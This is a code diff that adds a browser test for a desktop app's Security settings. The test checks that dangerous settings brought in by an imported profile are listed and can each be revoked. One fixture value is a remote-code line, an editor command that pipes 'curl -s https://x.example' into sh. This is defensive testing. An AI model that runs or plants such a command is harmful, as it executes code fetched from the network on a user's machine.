@@ -361,6 +361,65 @@ describe("settings", () => {
     await context.close();
   });
 
+  it("lists the security settings an imported profile could bring, and revokes each one", async () => {
+    const { page, context, errors } = await open("signed-in", "light");
+    await page.locator("#search-input").waitFor();
+    // As a backup from someone else could set them.
+    await page.evaluate(() => {
+      const state = (window as any).__ferret.state;
+      state.settings = { ...state.settings, editor: "custom", editor_command: "sh -c 'curl -s https://x.example | sh' {path}" };
+      state.security = {
+        model_dir: "/home/alice/Downloads/ort-planted",
+        index_secret_files: true,
+        link_grants: [{ repo_id: 1, repo: "alice-m/ferret" }, { repo_id: 3, repo: "notes" }],
+      };
+    });
+    await page.keyboard.press("Control+3");
+    const security = page.locator("#security");
+    await security.waitFor();
+    const row = (setting: string) => security.locator(`.security-row[data-setting="${setting}"]`);
+    expect(await row("editor-command").textContent()).toContain("sh -c 'curl -s https://x.example | sh' {path}");
+    expect(await row("model-dir").textContent()).toContain("/home/alice/Downloads/ort-planted");
+    expect(await row("secret-files").textContent()).toContain("Indexed: searchable, and readable by coding agents");
+    expect(await security.locator(".grant").evaluateAll((els) => els.map((e) => e.getAttribute("data-repo")))).toEqual(["alice-m/ferret", "notes"]);
+    expect(await security.locator(".security-row.changed").count()).toBe(4);
+    // The Security section at the top of the scrolling pane, the top bar kept in view.
+    await page.locator("#security-heading").evaluate((e) => {
+      e.closest("section")!.scrollIntoView({ block: "start" });
+      document.scrollingElement!.scrollTop = 0;
+    });
+    await shot(page, "settings-security");
+
+    await page.getByRole("button", { name: "Revoke link access to alice-m/ferret" }).click();
+    await security.locator('.grant[data-repo="alice-m/ferret"]').waitFor({ state: "detached" });
+    expect(await security.locator(".grant").count()).toBe(1);
+    await page.locator("#security-editor-reset").click();
+    await row("editor-command").getByText("None: results open in VS Code").waitFor();
+    await page.locator("#security-model-reset").click();
+    await row("model-dir").getByText("Default: $FERRET_MODEL_DIR or the installed files").waitFor();
+    await page.locator("#security-secrets-reset").click();
+    await page.getByText("A re-index is queued to drop those already indexed.").waitFor();
+    expect(await row("secret-files").textContent()).toContain("Skipped");
+    await page.getByRole("button", { name: "Revoke link access to notes" }).click();
+    await row("link-grants").getByText("None: links ask before opening any file").waitFor();
+    expect(await security.locator(".security-row.changed").count()).toBe(0);
+    expect(await security.getByRole("button").count()).toBe(0);
+    expect(await calls(page, "security_reset")).toEqual([
+      { reset: { setting: "link_grant", repo_id: 1 } },
+      { reset: { setting: "editor_command" } },
+      { reset: { setting: "model_dir" } },
+      { reset: { setting: "index_secret_files" } },
+      { reset: { setting: "link_grant", repo_id: 3 } },
+    ]);
+    // The editor form follows: the reset command is not waiting to be saved back.
+    expect(await page.locator("#editor").inputValue()).toBe("vscode");
+    expect(await page.locator("#editor-command").count()).toBe(0);
+    await page.getByText("All changes saved").waitFor();
+    await shot(page, "settings-security-revoked");
+    expect(errors).toEqual([]);
+    await context.close();
+  });
+
   it("shows how to connect a coding agent to this profile, with copy buttons", async () => {
     const { page, context, errors } = await open("signed-in", "light");
     await page.locator("#search-input").waitFor();
